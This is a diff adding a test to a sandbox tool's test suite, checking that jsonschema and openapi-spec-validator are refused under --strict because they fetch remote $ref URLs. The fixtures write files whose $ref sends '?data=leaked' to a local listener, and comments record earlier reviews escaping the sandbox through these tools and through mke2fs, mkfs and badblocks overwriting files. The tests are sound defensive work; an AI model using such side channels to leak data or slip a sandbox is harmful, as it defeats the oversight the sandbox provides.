@@ -636,6 +636,33 @@ for (const command of ${JSON.stringify(names)}) {
     }
   }, 150_000);
 
+  it("refuses jsonschema and openapi-spec-validator, which fetch the remote $ref of a file the script writes: nothing reaches a listener", async () => {
+    // A seventh review reached a loopback listener under --strict, with no --network-permissions,
+    // through `jsonschema -i instance.json schema.json` and `openapi-spec-validator spec.yaml`,
+    // each file written by the script with a $ref to http://127.0.0.1:P/…?data=…: both fetched it.
+    const server = await startServer();
+    try {
+      writeFileSync(path.join(root, "fetch-schema.json"), JSON.stringify({ $ref: `${server.origin}/schema?data=leaked` }));
+      writeFileSync(path.join(root, "fetch-instance.json"), "{}");
+      writeFileSync(path.join(root, "fetch-spec.yaml"), `openapi: 3.0.0\ninfo: {title: x, version: "1"}\npaths:\n  /a:\n    $ref: "${server.origin}/spec?data=leaked"\n`);
+      const RUNS: Array<[string, string[]]> = [
+        ["jsonschema", ["-i", "fetch-instance.json", "fetch-schema.json"]],
+        ["openapi-spec-validator", ["fetch-spec.yaml"]],
+      ];
+      const script = `${ATTEMPT_PRELUDE}
+for (const [command, args] of ${JSON.stringify(RUNS)} as Array<[string, string[]]>) {
+  attempt(command, () => requestExecPermission([command], (p) => p.exec(command, args, { timeoutMs: 30000 }).exitCode));
+}
+`;
+      const r = await tacit(root, script, ["--strict", "--exec-timeout-ms", "90000"]);
+      expect(r.code, r.stderr).toBe(0);
+      expectRefused(attempts(r.stdout), RUNS.map(([command]) => command), /refused under --strict: it is a network tool/);
+      expect(server.received).toEqual([]);
+    } finally {
+      await server.close();
+    }
+  }, 120_000);
+
   it("refuses mke2fs, mkfs.*, badblocks -w and hardlink, which overwrite or relink any file: the files stay as they were", async () => {
     // A sixth review overwrote files outside the allowed roots under --strict with `mke2fs -F
     // FILE`, `mkfs.ext4 -F FILE` and `badblocks -w FILE`, and made two files one with `hardlink DIR1 DIR2`.
